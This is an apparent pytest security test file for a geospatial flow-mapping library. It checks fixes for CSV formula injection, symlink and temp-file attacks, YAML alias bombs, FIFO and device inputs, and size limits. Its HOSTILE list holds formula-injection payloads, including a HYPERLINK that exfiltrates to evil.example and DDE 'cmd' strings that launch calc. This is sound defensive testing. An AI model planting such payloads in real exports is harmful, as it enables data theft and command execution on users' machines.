"""Issue 16: the doors through which files, build files and exports could be turned on a user.

One section per item of the issue (item 9, bidi isolation in the page, is tested with the map
JS in tests/browser/). Each test reproduces the attack of the issue and checks the fix on real
files, modes, messages and values.
"""

from __future__ import annotations

import csv
import io
import os
import signal
import stat
import textwrap
import warnings
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
import shapely
from click.testing import CliRunner

import geoflows as gf
from geoflows import io as gio
from geoflows.build import build, load_build_file
from geoflows.cli import cli

ROOT = Path(__file__).resolve().parents[1]
DATA = ROOT / "data"
HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "'=already quoted",
]


def _umask() -> int:
    mask = os.umask(0)
    os.umask(mask)
    return mask


@pytest.fixture(scope="module")
def flows() -> gf.FlowSet:
    return gf.read_flows(
        [
            {
                "id": f"f{i}",
                "origin": "42.25, 130.28",
                "destination": "43.1, 131.9",
                "volume": 10 + i,
                "label": text,
                "notes": text,
                "source": "-5",
            }
            for i, text in enumerate(HOSTILE)
        ]
    )


# --------------------------------------------------------------------------- 1. CSV formulas
def _csv_cells(path: Path) -> list[dict[str, str]]:
    with open(path, newline="", encoding="utf-8") as fh:
        return list(csv.DictReader(fh))


def test_csv_export_neutralises_formulas_and_reading_back_restores_them(flows, tmp_path):
    out = flows.to_file(tmp_path / "x.csv")
    cells = _csv_cells(out)
    for row, text in zip(cells, HOSTILE, strict=True):
        # read_flows strips text, so the tab/CR cases arrive as "=1+1"
        assert row["label"] == "'" + text.strip() and row["notes"] == "'" + text.strip()
        assert row["source"] == "-5"  # a number stays a number
        assert row["volume"].lstrip("-").replace(".", "").isdigit()
        assert row["origin_lon"][0].isdigit()
    # no cell a spreadsheet would evaluate
    assert not [v for row in cells for v in row.values() if v[:1] in tuple("=+@\t\r")]
    back = gf.read_flows(out).to_geodataframe()
    assert back["label"].tolist() == [t.strip() for t in HOSTILE]
    assert back["notes"].tolist() == [t.strip() for t in HOSTILE]


def test_neutralise_restore_round_trips_every_leading_quote_pattern():
    cells = ["=a", "'=a", "''=a", "'a", "a", "-1.5", "-33.9, 18.4", "-x", "", None, "@", "+"]
    frame = pd.DataFrame({"text": cells, "=head": range(len(cells))})
    neutral = gio.neutralize_formulas(frame)
    assert list(neutral.columns) == ["text", "'=head"]
    assert neutral["text"].tolist()[:8] == [
        "'=a",
        "''=a",
        "'''=a",
        "'a",
        "a",
        "-1.5",
        "-33.9, 18.4",
        "'-x",
    ]
    assert gio.restore_formulas(neutral).equals(frame)


def test_cli_export_and_geocode_csv_neutralise(tmp_path):
    src = tmp_path / "in.csv"
    src.write_text('origin,destination,label\nRajin,Vladivostok,"=HYPERLINK(""http://x"",""y"")"\n')
    out = tmp_path / "out.csv"
    r = CliRunner().invoke(cli, ["export", str(src), "-o", str(out)], catch_exceptions=False)
    assert r.exit_code == 0, r.output
    assert _csv_cells(out)[0]["label"] == '\'=HYPERLINK("http://x","y")'
    r = CliRunner().invoke(cli, ["geocode", "=1+1", "Rajin", "--format", "csv"])
    rows = list(csv.DictReader(io.StringIO(r.stdout)))
    assert [row["query"] for row in rows] == ["'=1+1", "Rajin"]
    assert rows[1]["status"] == "ok"


# --------------------------------------------------------------------------- 2./3. temp files and modes
WRITERS = {
    "csv": lambda f, p: f.to_file(p),
    "parquet": lambda f, p: f.to_file(p),
    "geojson": lambda f, p: f.to_file(p),
    "gpkg": lambda f, p: f.to_file(p),
    "html": lambda f, p: f.save_map(p, tiles=None),
    "png": lambda f, p: f.save_png(p, dpi=20),
}


@pytest.mark.parametrize("suffix", sorted(WRITERS))
def test_planted_temp_symlinks_are_not_written_through(flows, tmp_path, suffix):
    victim = tmp_path / "victim.txt"
    victim.write_text("precious")
    out = tmp_path / f"out.{suffix}"
    # every predictable temporary name geoflows 0.1 used
    for name in (f".{out.name}.{os.getpid()}.tmp{out.suffix}", f".{out.name}.tmp{out.suffix}"):
        (tmp_path / name).symlink_to(victim)
    WRITERS[suffix](flows, out)
    assert victim.read_text() == "precious"
    assert out.is_file() and not out.is_symlink() and out.stat().st_size > 0
    # A GeoParquet export writes its places table beside it (out.places.parquet).
    siblings = {out.name, f"{out.stem}.places.parquet"}
    leftovers = {p.name for p in tmp_path.iterdir()} - {"victim.txt"} - siblings
    assert all((tmp_path / n).is_symlink() for n in leftovers)  # only the planted links


@pytest.mark.parametrize("suffix", ["csv", "html", "gpkg"])
def test_symlinked_output_is_replaced_with_umask_mode_not_the_targets(flows, tmp_path, suffix):
    target = tmp_path / "setuid-target"
    target.write_text("do not touch")
    target.chmod(0o4755)
    out = tmp_path / f"map.{suffix}"
    out.symlink_to(target)
    WRITERS[suffix](flows, out)
    assert not out.is_symlink()
    mode = stat.S_IMODE(out.stat().st_mode)
    assert mode == 0o666 & ~_umask()
    assert not mode & (stat.S_ISUID | stat.S_ISGID | stat.S_ISVTX)
    assert target.read_text() == "do not touch"
    assert stat.S_IMODE(target.stat().st_mode) == 0o4755


def test_failed_write_leaves_no_temporary_folder(tmp_path):
    out = tmp_path / "x.bin"
    with pytest.raises(RuntimeError):
        with gio.atomic_output(out) as tmp:
            tmp.write_bytes(b"half")
            raise RuntimeError("disk full")
    assert list(tmp_path.iterdir()) == []
    with pytest.raises(gf.GeoflowsError, match="did not produce a file"):
        with gio.atomic_output(out):
            pass
    assert list(tmp_path.iterdir()) == []


# --------------------------------------------------------------------------- 4. YAML
def _yaml(folder: Path, text: str) -> Path:
    (folder / "a.csv").write_text("origin,destination\nRajin,Vladivostok\n")
    p = folder / "maps.yaml"
    p.write_text(textwrap.dedent(text))
    return p


def test_yaml_alias_bomb_is_refused_before_expanding(tmp_path):
    levels = ['a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]']
    for prev, name in zip("abcdefgh", "bcdefghi", strict=True):
        levels.append(f"{name}: &{name} [" + ",".join([f"*{prev}"] * 9) + "]")
    bomb = _yaml(tmp_path, "\n".join(levels) + "\nmaps: [*i]\n")
    assert bomb.stat().st_size < 600
    with pytest.raises(gf.BuildError, match=r"line 2, column \d+\): alias \*a is not allowed"):
        load_build_file(bomb)
    with pytest.raises(gf.BuildError, match="alias"):
        build(bomb, quiet=True)


def test_yaml_merge_keys_and_duplicate_keys_are_errors(tmp_path):
    merged = _yaml(
        tmp_path,
        """\
        defaults: &d {tiles: null}
        inputs: {a: a.csv}
        maps:
          - {name: m, input: a, options: {<<: *d}}
        """,
    )
    with pytest.raises(gf.BuildError, match=r"alias \*d is not allowed"):
        load_build_file(merged)
    dup = _yaml(
        tmp_path,
        """\
        inputs: {a: a.csv}
        maps:
          - name: m
            input: a
            name: n
        """,
    )
    with pytest.raises(gf.BuildError, match=r"line 5.*key 'name' appears twice.*first on line 3"):
        load_build_file(dup)


@pytest.mark.slow  # importing jsonschema takes ~3 s here (its rfc3987-syntax grammar)
def test_impossible_date_is_a_build_error_naming_the_key(tmp_path):
    p = _yaml(
        tmp_path,
        """\
        inputs: {a: a.csv}
        maps:
          - {name: m, input: a, filter: {start: 2023-02-30}, options: {at: 2023-13-01}}
        """,
    )
    with pytest.raises(gf.BuildError) as e:
        build(p, quiet=True)
    assert "maps[0].filter.start: '2023-02-30' is not a real date" in str(e.value)
    assert "maps[0].options.at" in str(e.value)
    r = CliRunner().invoke(cli, ["validate", str(p)])
    assert r.exit_code == 1
    assert "'2023-02-30' is not a real date" in r.output
    assert "bug" not in r.output
    good = _yaml(
        tmp_path,
        "inputs: {a: a.csv}\nmaps:\n  - {name: m, input: a, filter: {start: 2024-02-29}}\n",
    )
    assert load_build_file(good).maps[0].filter == {"start": "2024-02-29"}


# --------------------------------------------------------------------------- 5. endless inputs
@pytest.fixture
def no_hang():
    """Fail (instead of hanging the suite) if a read blocks."""

    def hang(*_):
        raise TimeoutError("the read blocked")

    old = signal.signal(signal.SIGALRM, hang)
    signal.alarm(20)
    yield
    signal.alarm(0)
    signal.signal(signal.SIGALRM, old)


def test_device_and_fifo_inputs_are_refused(tmp_path, no_hang):
    fifo = tmp_path / "flows.csv"
    os.mkfifo(fifo)
    with pytest.raises(
        gf.InputFileError, match=r"is a FIFO \(named pipe\); a flow file must be a regular file"
    ):
        gf.read_flows(fifo)
    with pytest.raises(gf.InputFileError, match="is a character device"):
        gf.read_flows("/dev/zero")
    p = _yaml(tmp_path, "gazetteer: /dev/zero\ninputs: {a: a.csv}\nmaps: [{name: m, input: a}]\n")
    with pytest.raises(gf.BuildError, match="/dev/zero: is a character device; a gazetteer must"):
        build(p, quiet=True)
    fifo_yaml = tmp_path / "maps2.yaml"
    os.mkfifo(fifo_yaml)
    with pytest.raises(gf.BuildError, match="is a FIFO"):
        load_build_file(fifo_yaml)
    r = CliRunner().invoke(
        cli,
        [
            "map",
            str(tmp_path / "a.csv"),
            "-o",
            str(tmp_path / "m.html"),
            "--gazetteer",
            "/dev/zero",
        ],
    )
    assert r.exit_code != 0 and "character device" in r.output


def test_size_limit_is_stated_and_overridable(tmp_path, monkeypatch):
    src = DATA / "dprk_russia_2023_2024.csv"
    size = src.stat().st_size
    monkeypatch.setenv("GEOFLOWS_MAX_INPUT_MB", "0.001")  # 1,048 bytes
    with pytest.raises(gf.InputFileError) as e:
        gf.read_flows(src)
    assert f"{size:,} bytes is more than the 1,048 bytes geoflows reads from a flow file" in str(
        e.value
    )
    assert "GEOFLOWS_MAX_INPUT_MB=1" in str(e.value)
    monkeypatch.setenv("GEOFLOWS_MAX_INPUT_MB", "1")
    assert len(gf.read_flows(src, route="geodesic")) > 10
    monkeypatch.delenv("GEOFLOWS_MAX_INPUT_MB")
    assert gio.read_input_bytes(src, max_bytes=size) == src.read_bytes()
    with pytest.raises(gf.InputFileError, match="more than the 10 bytes"):
        gio.read_input_bytes(src, max_bytes=10)
    big = tmp_path / "maps.yaml"
    big.write_text("# " + "x" * (1 << 20) + "\nmaps: []\n")
    with pytest.raises(gf.BuildError, match="bytes geoflows reads from a build file"):
        load_build_file(big)


# --------------------------------------------------------------------------- 6. coordinates
@pytest.mark.parametrize(
    "vertex",
    [(1e308, 43.0), (1e20, 43.0), (130.0, 100.0), (500.0, 42.0), (np.nan, 43.0), (np.inf, 1.0)],
)
def test_from_geodataframe_refuses_off_globe_coordinates(vertex):
    gdf = gf.read_flows(
        [
            {"origin": "Rajin", "destination": "Vladivostok"},
            {"origin": "Rajin", "destination": "Nakhodka"},
        ]
    ).to_geodataframe()
    with warnings.catch_warnings():
        warnings.simplefilter("ignore", RuntimeWarning)  # shapely on NaN
        gdf.loc[1, "geometry"] = shapely.LineString([(130.3, 42.3), vertex])
    with pytest.raises(gf.FlowValidationError) as e:
        gf.FlowSet.from_geodataframe(gdf)
    (problem,) = e.value.problems
    assert (problem.row, problem.field) == (2, "geometry")
    assert "off the globe" in problem.rule


def test_from_geodataframe_keeps_lines_unwrapped_across_180():
    gdf = gf.read_flows(
        [{"origin": "Vladivostok", "destination": "37.8, -122.4", "mode": "air"}]
    ).to_geodataframe()
    back = gf.FlowSet.from_geodataframe(gdf).to_geodataframe()
    assert back.geometry[0].equals(gdf.geometry[0])


def test_coordinate_columns_outside_the_globe_are_problems():
    with pytest.raises(gf.FlowValidationError) as e:
        gf.read_flows(
            [
                {
                    "origin": "Rajin",
                    "destination": "Vladivostok",
                    "origin_lat": 100,
                    "origin_lon": 130,
                },
                {
                    "origin": "Rajin",
                    "destination": "Vladivostok",
                    "origin_lat": 42,
                    "origin_lon": 1e20,
                },
            ]
        )
    assert [(p.row, p.field) for p in e.value.problems] == [(1, "origin_lat/origin_lon")] * 1 + [
        (2, "origin_lat/origin_lon")
    ]


# --------------------------------------------------------------------------- 7. clear errors
def test_duplicate_header_is_refused(tmp_path):
    p = tmp_path / "dup.csv"
    p.write_text("origin,destination,notes,Notes,x,,\nRajin,Vladivostok,a,b,1,,\n")
    with pytest.raises(gf.FlowValidationError) as e:
        gf.read_flows(p)
    (problem,) = e.value.problems
    assert (problem.row, problem.field) == (1, "Notes")
    assert "columns 3 and 4" in problem.rule
    p.write_text("origin,destination,extra,extra\nRajin,Vladivostok,1,2\n")
    with pytest.raises(gf.FlowValidationError, match="column appears twice in the header"):
        gf.read_flows(p)
    p.write_text("origin,destination,,\nRajin,Vladivostok,,\n")  # empty trailing names are fine
    assert len(gf.read_flows(p)) == 1


# --------------------------------------------------------------------------- 8. names vs coordinates
RAJIN_IN_LONDON = {
    "origin": "Rajin",
    "destination": "Vladivostok",
    "origin_lat": 51.5,
    "origin_lon": -0.12,
}


def test_name_far_from_its_coordinates_is_a_problem_with_strict_true():
    with pytest.raises(gf.FlowValidationError) as e:
        gf.read_flows([RAJIN_IN_LONDON], strict=True)
    (problem,) = e.value.problems
    assert (problem.row, problem.field, problem.value) == (1, "origin", "Rajin")
    assert "(51.5000, -0.1200) are 8,5" in problem.rule
    assert "km from Rajin (KP) at (42.2" in problem.rule
    assert "more than 50 km" in problem.rule


def test_name_far_from_its_coordinates_warns_by_default():
    """Issue 22 §1: coordinates given are trusted; the warning names both positions."""
    with pytest.warns(gf.GeoflowsWarning, match="disagree with the coordinates") as w:
        flows = gf.read_flows([RAJIN_IN_LONDON])
    assert "(51.5000, -0.1200)" in str(w[0].message) and "Rajin (KP) at (42.2" in str(w[0].message)
    assert w[0].filename == __file__
    assert flows.to_geodataframe().origin_lat[0] == 51.5


def test_coordinates_near_the_name_and_exports_read_back_quietly(tmp_path):
    near = dict(RAJIN_IN_LONDON, origin_lat=42.0, origin_lon=130.0)  # ~35 km from Rajin
    with warnings.catch_warnings():
        warnings.simplefilter("error")
        flows = gf.read_flows([near])
        out = gf.read_flows(DATA / "dprk_russia_2023_2024.csv", route="geodesic").to_file(
            tmp_path / "x.csv"
        )
        assert len(gf.read_flows(out, route="geodesic")) > 10
    assert flows.to_geodataframe().origin_lat[0] == 42.0


def test_read_never_goes_past_the_limit_even_if_the_size_check_is_passed(monkeypatch):
    # a file that grows between the size check and the read: the read itself stops at the limit
    import geoflows._files

    monkeypatch.setattr(geoflows._files, "_check_stat", lambda *a: None)
    with pytest.raises(
        gf.InputFileError, match="grew past the 10 bytes geoflows reads from a flow file"
    ):
        gio.read_input_bytes(DATA / "dprk_russia_2023_2024.csv", what="flow file", max_bytes=10)


def test_input_read_never_asks_for_a_buffer_of_the_whole_limit(tmp_path):
    """Under an address-space limit far below the 2 GiB input limit a tiny file still reads.

    The read goes in bounded chunks; one ``read(limit + 1)`` asks for 2 GiB and raises
    MemoryError under ``ulimit -v`` or strict overcommit.
    """
    import subprocess
    import sys

    src = tmp_path / "tiny.csv"
    src.write_bytes(b"a,b")
    code = textwrap.dedent(
        f"""
        import resource
        from geoflows import _files
        vm = int([l for l in open("/proc/self/status") if l.startswith("VmSize")][0].split()[1])
        room = vm * 1024 + (256 << 20)
        resource.setrlimit(resource.RLIMIT_AS, (room, room))
        print(_files.read_input_bytes({str(src)!r}, max_bytes=1 << 31))
        """
    )
    out = subprocess.run(
        [sys.executable, "-c", code], capture_output=True, text=True, timeout=600, check=False
    )
    assert out.returncode == 0, out.stderr[-2000:]
    assert out.stdout.strip() == "b'a,b'"


@pytest.mark.parametrize("suffix", [".gpkg", ".parquet", ".csv"])
def test_row_limit_checked_from_metadata_before_reading(tmp_path, monkeypatch, suffix):
    """A file declaring more rows than GEOFLOWS_MAX_ROWS is refused before its rows are read."""
    import geopandas as gpd

    src = DATA / "dprk_russia_2023_2024.csv"
    flows = gf.read_flows(src)
    n = len(flows.to_geodataframe())
    out = tmp_path / f"f{suffix}"
    if suffix == ".csv":
        out.write_bytes(src.read_bytes())
    else:
        gf.write_flows(flows, out)
    monkeypatch.setenv("GEOFLOWS_MAX_ROWS", str(n - 1))
    if suffix != ".csv":

        def refuse(*args, **kwargs):
            raise AssertionError("rows read before the limit was checked")

        monkeypatch.setattr(gpd, "read_file", refuse)
        monkeypatch.setattr(gpd, "read_parquet", refuse)
    with pytest.raises(gf.errors.InputFileError) as err:
        gf.read_flows(out)
    text = str(err.value)
    assert str(out) in text and f"{n:,} rows" in text
    assert f"{n - 1:,}" in text and "GEOFLOWS_MAX_ROWS" in text
    monkeypatch.undo()
    assert len(gf.read_flows(out).to_geodataframe()) == n


def test_column_limit_and_many_columns_read_linearly(tmp_path, monkeypatch):
    """A header wider than GEOFLOWS_MAX_COLUMNS is refused naming the count, limit and variable;
    under the limit the extra columns are kept, values and order intact."""
    from geoflows.schema import MAX_COLUMNS

    extra = [f"c{i}" for i in range(MAX_COLUMNS)]
    src = tmp_path / "wide.csv"
    src.write_text(
        "origin,destination," + ",".join(extra) + "\nRajin,Vladivostok," + ",".join(extra) + "\n"
    )
    with pytest.raises(gf.errors.FlowValidationError) as err:
        gf.read_flows(src)
    text = str(err.value)
    assert f"{MAX_COLUMNS + 2:,} columns" in text and f"{MAX_COLUMNS:,}" in text
    assert "GEOFLOWS_MAX_COLUMNS" in text
    monkeypatch.setenv("GEOFLOWS_MAX_COLUMNS", str(MAX_COLUMNS + 2))
    gdf = gf.read_flows(src).to_geodataframe()
    kept = [c for c in gdf.columns if c.startswith("c") and c[1:].isdigit()]
    assert kept == extra
    assert gdf["c7"].tolist() == ["c7"]
